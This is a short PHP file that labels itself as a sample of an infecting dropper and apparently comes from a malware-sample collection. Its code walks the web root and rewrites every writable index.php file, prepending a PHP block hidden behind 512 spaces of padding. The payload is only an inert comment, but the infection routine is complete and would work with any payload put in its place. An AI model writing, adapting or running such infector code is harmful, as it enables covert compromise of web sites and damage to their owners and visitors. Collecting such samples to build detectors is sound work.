<?php
/* Family: dropper/write-php
 * Style: infector that prepends a block to every index file it can write
 * Trait: directory walk for writable index.php files, each rewritten as "<?php " + padding + payload + " ?>" + its old content
 */
$payload = rawurldecode('%2F%2A%20inert%20demo%20%2A%2F');
function pad($n) { return str_repeat(' ', $n); }
foreach (glob($_SERVER['DOCUMENT_ROOT'] . '/*/index.php') as $path) {
	if (!is_writable($path)) continue;
	$data = file_get_contents($path);
	$data = "<?php " . pad(512) . $payload . " ?>" . $data;
	file_put_contents($path, $data);
}
